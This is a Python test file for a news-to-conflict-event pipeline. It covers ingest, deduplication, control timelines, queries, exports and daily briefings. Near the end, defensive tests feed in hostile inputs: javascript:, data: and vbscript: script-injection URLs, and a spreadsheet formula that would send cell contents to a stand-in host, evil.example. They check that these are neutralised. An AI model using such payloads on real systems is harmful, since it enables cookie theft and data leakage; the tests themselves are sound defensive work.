"""The store on SQLite and PostgreSQL: ingest, idempotence, syndication, incidents,
control timeline, queries, exports and the briefing, through the real pipeline."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest

from conftest import STORY
from flashpoint.ingest.reader import ReadOptions
from flashpoint.pipeline import ingest
from flashpoint.store import Store, StoreError
from flashpoint.store.control import control_timelines
from flashpoint.store.queries import Filters, article_detail, find_events, find_incidents, incident_detail

NO_FETCH = ReadOptions(fetch_links=False)


def incident_where(store, **match):
    with store.connect() as conn:
        rows = find_incidents(conn, Filters(limit=1000))
    found = [r for r in rows if all(r[k] == v for k, v in match.items())]
    assert found, f"no incident with {match} among {[r['summary'] for r in rows]}"
    return found[0]


def test_ingest_stores_articles_events_and_the_copy_as_a_source(story_store):
    store, counts = story_store
    assert counts.articles == 5 and counts.copies == 1
    assert counts.events > 0 and counts.events == store.counts()["event"]
    capture = incident_where(store, sub_event_type="Non-state actor overtakes territory", place="Bārah")
    assert capture["sources"] == ["Kordofan Herald", "Nile Daily Post"]
    assert capture["n_articles"] == 2 and capture["n_events"] == 1


def test_ingesting_again_adds_nothing(story_store):
    store, _ = story_store
    before = store.counts()
    again = ingest([str(STORY)], store, NO_FETCH)
    assert (again.articles, again.copies, again.events) == (0, 0, 0)
    assert again.skipped == 6
    assert store.counts() == before


def test_a_later_copy_in_another_run_adds_a_source_not_events(db_url, tmp_path):
    first = tmp_path / "first"
    first.mkdir()
    for page in STORY.iterdir():
        if "copy" not in page.name:
            shutil.copy(page, first)
    store = Store(db_url)
    ingest([str(first)], store, NO_FETCH)
    events_before = store.counts()["event"]
    later = ingest([str(next(STORY.glob("*copy*")))], store, NO_FETCH)
    assert later.copies == 1 and later.events == 0
    assert store.counts()["event"] == events_before
    capture = incident_where(store, sub_event_type="Non-state actor overtakes territory", place="Bārah")
    assert "Nile Daily Post" in capture["sources"]
    store.close()


def test_reports_of_one_shelling_merge_with_conservative_toll_and_both_claims(story_store):
    store, _ = story_store
    shelling = incident_where(store, sub_event_type="Shelling/artillery/missile attack", place="El Obeid")
    assert (shelling["fatalities_best"], shelling["fatalities_low"], shelling["fatalities_high"]) == (7, 7, 11)
    assert shelling["n_sources"] == 3
    with store.connect() as conn:
        detail = incident_detail(conn, shelling["id"])
    claims = {c["reported_by"]: c["fatalities"] for c in detail["claims"]}
    assert claims == {"medics at the city's main hospital": 11, "local emergency response room": 7}
    assert {a["publisher"] for a in detail["articles"]} == {"Kordofan Herald", "Nile Daily Post", "Sudan Monitor"}
    assert any(r["place"] == "Bārah" for r in detail["related"]) is False  # Bara is 60 km away


def test_a_bare_wounded_count_completes_the_shelling_instead_of_making_another_incident(story_store):
    store, _ = story_store
    with store.connect() as conn:
        el_obeid = find_incidents(conn, Filters(near=(13.18, 30.22, 25.0)))
    assert [r["sub_event_type"] for r in el_obeid] == ["Shelling/artillery/missile attack"]
    clash = incident_where(store, sub_event_type="Armed clash", place="Bārah")
    assert "Sudan Monitor" in clash["sources"]  # "fighting ... around Bara went on through Monday night"


def test_control_timeline_shows_the_town_changing_hands_twice(story_store):
    store, _ = story_store
    with store.connect() as conn:
        (bara,) = control_timelines(conn, "SD", "Bārah")
    first, second = bara["entries"]
    assert (first["since"], first["holder"], first["taken_from"]) == ("2025-03-10", "Rapid Support Forces", "Military Forces of Sudan")
    assert first["confirmed_independently"] is False  # only the RSF's own word
    assert "Military Forces of Sudan" in first["disputed_by"]
    assert (second["since"], second["holder"]) == ("2025-03-12", "Military Forces of Sudan")
    assert second["confirmed_independently"] is True  # local volunteers say so too
    assert "Rapid Support Forces" in second["disputed_by"]
    assert bara["changes"] == 2 and bara["held_by"] == "Military Forces of Sudan"


BHAMO = """Rebels say they have retaken Bhamo from Myanmar's army
Published: 2024-05-21

YANGON, May 21 (Meridian Wire) - The Kachin Independence Army said on Tuesday it had recaptured the town of Bhamo in Kachin State, in a reverse for Myanmar's military after weeks of fighting.

"Bhamo has been freed from the junta's troops," said Naw Bu, a spokesman for the Kachin Independence Army.

A spokesman for the military government denied on Tuesday that Bhamo had fallen and said troops were still holding positions in the town.

Three weeks ago, Myanmar's army seized Bhamo from the Kachin Independence Army after a week of heavy shelling.

Residents who fled to the border said fighting had gone on for several days.
"""


def test_a_partys_claim_is_claimant_only_and_a_denial_disputes_only_the_day_it_denies(tmp_path):
    (tmp_path / "bhamo.txt").write_text(BHAMO, encoding="utf-8")
    store = Store(str(tmp_path / "c.db"))
    ingest([str(tmp_path / "bhamo.txt")], store, NO_FETCH)
    with store.connect() as conn:
        (bhamo,) = control_timelines(conn, "MM")
    earlier, recapture = bhamo["entries"]
    assert (earlier["since"], earlier["holder"]) == ("2024-04-30", "Military Forces of Myanmar")
    assert earlier["disputed_by"] == []  # the junta's denial is about 21 May, not the April capture
    assert (recapture["since"], recapture["holder"]) == ("2024-05-21", "Kachin Independence Army")
    assert recapture["confirmation"] == "claimant only" and recapture["confirmed_independently"] is False
    assert [c["party"] for c in recapture["claims"]] == ["Kachin Independence Army"]
    assert recapture["disputed_by"] and "military government" in recapture["disputed_by"][0]


@pytest.mark.parametrize("record, outlet, party", [
    # the extractor resolved the source to an armed actor
    ({"reported_by": "Naw Bu", "reported_by_actor": {"name": "Kachin Independence Army", "kind": "rebel"}}, None,
     "Kachin Independence Army"),
    # the source is one of the event's own actors ("Syrian rebels said they had ...")
    ({"reported_by": "Syrian rebels", "actor1": {"text": "Syrian rebels", "name": "Rebels (Syria)", "kind": "rebel"}},
     None, "Rebels (Syria)"),
    # the name of an armed body or of the office commanding one
    ({"reported_by": "the Southern Front's press office"}, None, "the Southern Front's press office"),
    ({"reported_by": "Ukraine's defence ministry"}, None, "Ukraine's defence ministry"),
    # state media of a state fighting in the event, as the source or as the outlet
    ({"reported_by": "SANA", "actor1": {"name": "Military Forces of Syria", "kind": "state", "country": "SY"}}, None,
     "Syrian Arab News Agency"),
    ({"reported_by": None, "actor2": {"name": "Military Forces of Russia", "kind": "state", "country": "RU"}}, "TASS",
     "TASS"),
    # the same agency about someone else's war is a witness, not a party
    ({"reported_by": "TASS", "actor1": {"name": "Military Forces of Sudan", "kind": "state", "country": "SD"}}, None,
     None),
    # monitors, medics, residents and the outlet's own reporting are not parties
    ({"reported_by": "Syrian Observatory for Human Rights"}, None, None),
    ({"reported_by": "hospital officials"}, None, None),
    ({"reported_by": None}, "Meridian Wire", None),
])
def test_who_is_a_party_to_the_fighting(record, outlet, party):
    from flashpoint.resolve.parties import claim_party

    assert claim_party(record, outlet) == party


def test_a_place_is_found_by_any_name_the_gazetteer_knows(story_store, run_cli):
    from flashpoint.store.control import place_control

    store, _ = story_store
    with store.connect() as conn:
        found, matched = place_control(conn, "Bara")
        direct, none = place_control(conn, "Bārah")
        missing, _ = place_control(conn, "Atlantis")
    assert [p["place"] for p in found] == ["Bārah"] and "Bārah" in matched and "'Bara'" in matched
    assert direct == found and none is None and missing == []
    shown = run_cli(["control", "Bara", "--db", store.url, "-f", "json"])
    assert shown.exit_code == 0 and "is stored as Bārah" in shown.output
    assert run_cli(["control", "Atlantis", "--db", store.url]).exit_code == 1


@pytest.mark.parametrize("filters, expect", [
    (Filters(country="sd", since="2025-03-12", until="2025-03-12"), {"2025-03-12"}),
    (Filters(type="Battles"), {"Battles"}),
    (Filters(type="air/drone strike"), {"Air/drone strike"}),
    (Filters(actor="rapid support"), {"Rapid Support Forces"}),
    (Filters(text="drone"), {"Air/drone strike", "Looting/property destruction"}),
    (Filters(near=(13.18, 30.22, 25.0)), {"El Obeid"}),
])
def test_incident_filters(story_store, filters, expect):
    store, _ = story_store
    with store.connect() as conn:
        rows = find_incidents(conn, filters)
    assert rows
    for r in rows:
        assert expect & {r["date_start"], r["event_type"], r["sub_event_type"], r["actor1"], r["actor2"], r["place"]}


def test_text_search_survives_operators_and_quotes(story_store):
    store, _ = story_store
    with store.connect() as conn:
        assert find_events(conn, Filters(text='drone" (*'))  # quotes and operators are not syntax
        assert find_events(conn, Filters(text="zzzunknownword")) == []
        assert find_events(conn, Filters(text="drone strike"))


def test_article_evidence_offsets_point_at_the_sentences(story_store):
    store, _ = story_store
    with store.connect() as conn:
        capture = incident_where(store, sub_event_type="Non-state actor overtakes territory")
        art = article_detail(conn, incident_detail(conn, capture["id"])["articles"][0]["id"])
    assert art["evidence"]
    for span in art["evidence"]:
        assert art["body"][span["start"]:span["end"]].endswith(".")
    assert any("captured the town of Bara" in art["body"][s["start"]:s["end"]] for s in art["evidence"])


def test_exports(story_store, tmp_path):
    from flashpoint.report.export import ACLED_COLUMNS, write_export

    store, _ = story_store
    with store.connect() as conn:
        acled = tmp_path / "a.csv"
        n = write_export(conn, Filters(limit=10_000), "acled-csv", acled)
        rows = list(csv.DictReader(io.StringIO(acled.read_text())))
        assert n == len(rows) > 0 and list(rows[0]) == ACLED_COLUMNS
        strike = next(r for r in rows if r["sub_event_type"] == "Air/drone strike")
        assert strike["country"] == "Sudan" and strike["location"] == "Bārah" and strike["fatalities"] == "20"
        assert strike["inter1"] == "1" and strike["event_id_cnty"].startswith("SD")
        geo = tmp_path / "g.geojson"
        write_export(conn, Filters(limit=10_000), "geojson", geo)
        features = json.loads(geo.read_text())["features"]
        assert features and all(len(f["geometry"]["coordinates"]) == 2 for f in features)
        plover = tmp_path / "p.jsonl"
        write_export(conn, Filters(limit=10_000), "plover-jsonl", plover)
        events = [json.loads(line) for line in plover.read_text().splitlines()]
        assert {"REJECT", "ASSAULT"} <= {e["event"] for e in events}
        parquet = tmp_path / "e.parquet"
        assert write_export(conn, Filters(limit=10_000), "parquet", parquet, per="report") == store.counts()["event"]
    import pyarrow.parquet as pq

    assert pq.read_table(parquet).num_rows == store.counts()["event"]


def test_briefing_lists_the_day_and_escapes_text(story_store):
    from flashpoint.report.brief import render_brief

    store, _ = story_store
    with store.connect() as conn:
        page = render_brief(conn, "2025-03-12", "SD", "html")
        md = render_brief(conn, "2025-03-12", None, "md")
        empty = render_brief(conn, "2001-01-01", None, "html")
        empty_md = render_brief(conn, "2001-01-01", None, "md")
    assert "Government regains territory" in page and "<svg" in page
    assert "<polygon" in page  # country outlines under the dots
    assert "Bārah" in page and "confirmed independently" in page and "claimant only" not in page
    assert "local volunteers" in page and "https://" not in page.split("<h2>Key incidents")[0]
    # The crossfire toll is the retaking's toll, and its sentence is shown beside the claim.
    assert "4 killed" in page and "killed in crossfire" in page
    assert "<script" not in page
    assert "## Control changes" in md and "Bārah" in md
    assert "No incidents stored for this day." in empty and "<ol>" not in empty
    assert "## Key incidents\n\nNo incidents stored for this day." in empty_md


def test_a_brief_for_yesterday_and_a_bad_day_named_by_its_option(story_store, run_cli):
    from datetime import datetime, timedelta, timezone

    store, _ = story_store
    yesterday = (datetime.now(timezone.utc).date() - timedelta(days=1)).isoformat()
    done = run_cli(["brief", "--date", "yesterday", "--db", store.url, "-f", "md"])
    assert done.exit_code == 0 and f"Daily situation report: {yesterday}" in done.output
    bad = run_cli(["brief", "--date", "March", "--db", store.url])
    assert bad.exit_code == 2 and "--date 'March'" in bad.output and "--since" not in bad.output


def test_bad_database_urls_are_explained(tmp_path):
    with pytest.raises(StoreError, match="not a database"):
        Store("mysql://x@y/z")
    with pytest.raises(StoreError, match="does not exist"):
        Store(str(tmp_path / "missing" / "x.db"))
    with pytest.raises(StoreError, match="cannot open"):
        Store("postgresql://nobody:wrong@127.0.0.1:1/none")
    with pytest.raises(StoreError, match="no such database"):
        Store(str(tmp_path / "absent.db"), create=False)

def store_of_one_report(tmp_path, **fields) -> "Store":
    """A store holding one self-written wire report, given as a JSONL record with these fields."""
    import json as jsonlib

    from flashpoint.ingest.reader import ReadOptions
    from flashpoint.pipeline import ingest

    record = {"published": "2025-03-12T08:00:00Z",
              "text": "Russian artillery shelled a residential district of Kharkiv on Wednesday, "
                      "killing three civilians, the regional governor said.", **fields}
    feed = tmp_path / "feed.jsonl"
    feed.write_text(jsonlib.dumps(record) + "\n")
    store = Store(str(tmp_path / "x.db"))
    ingest([str(feed)], store, ReadOptions(fetch_links=False))
    return store


@pytest.mark.parametrize("url", ["JaVaScRiPt:alert(document.cookie)", "data:text/html,<script>alert(1)</script>",
                                 "vbscript:msgbox(1)", "https://news.example.org/story?id=1) [x](javascript:alert(2)"])
def test_briefing_links_only_to_web_pages(tmp_path, url):
    from flashpoint.report.brief import render_brief

    store = store_of_one_report(tmp_path, url=url, title="Shelling in Kharkiv", publisher="Example Wire")
    try:
        with store.connect() as conn:
            page = render_brief(conn, "2025-03-12", None, "html")
            md = render_brief(conn, "2025-03-12", None, "md")
    finally:
        store.close()
    assert "Example Wire" in page and "Example Wire" in md
    for scheme in ("javascript:", "data:", "vbscript:"):
        assert f'href="{scheme}' not in page.lower() and f"]({scheme}" not in md.lower()
    assert "<script>" not in page and "<script>" not in md


def test_csv_exports_do_not_carry_spreadsheet_formulas(tmp_path):
    import csv as csvlib
    import subprocess
    import sys

    from flashpoint.report.export import write_export
    from flashpoint.store.queries import Filters

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    store = store_of_one_report(tmp_path, url="https://news.example.org/a", publisher=hostile)
    out = tmp_path / "acled.csv"
    try:
        with store.connect() as conn:
            assert write_export(conn, Filters(), "acled-csv", out) >= 1
    finally:
        store.close()
    rows = list(csvlib.DictReader(out.open()))
    cells = [v for r in rows for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+@"] and any(v.startswith("'=HYPERLINK") for v in cells)
    assert rows[0]["fatalities"] == "3"  # numbers stay numbers
    done = subprocess.run([sys.executable, "-m", "flashpoint.cli", "extract", str(tmp_path / "feed.jsonl"), "-f", "csv", "-q"],
                          capture_output=True, text=True, timeout=300)
    assert not [v for r in csvlib.DictReader(done.stdout.splitlines()) for v in r.values() if v and v[0] in "=+@"]


@pytest.mark.parametrize("damage", ["garbage", "truncated", "empty"])
def test_a_damaged_database_is_named_not_a_traceback(tmp_path, damage):
    import subprocess
    import sys

    path = tmp_path / f"{damage}.db"
    if damage == "garbage":
        path.write_bytes(b"not sqlite at all " * 400)
    elif damage == "truncated":
        good = tmp_path / "good.db"
        from flashpoint.ingest.reader import ReadOptions
        from flashpoint.pipeline import ingest

        from conftest import STORY
        copy = Store(str(good))
        ingest([str(STORY)], copy, ReadOptions(fetch_links=False))
        copy.close()
        data = good.read_bytes()
        path.write_bytes(data[: len(data) // 3])
    else:
        path.write_bytes(b"")
    done = subprocess.run([sys.executable, "-c", "from flashpoint.cli import main; main()", "incidents", "--db",
                           str(path), "--format", "json"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    assert str(path.name) in done.stderr and "Traceback" not in done.stderr
    if damage == "empty":
        assert path.stat().st_size == 0  # not silently turned into an empty store
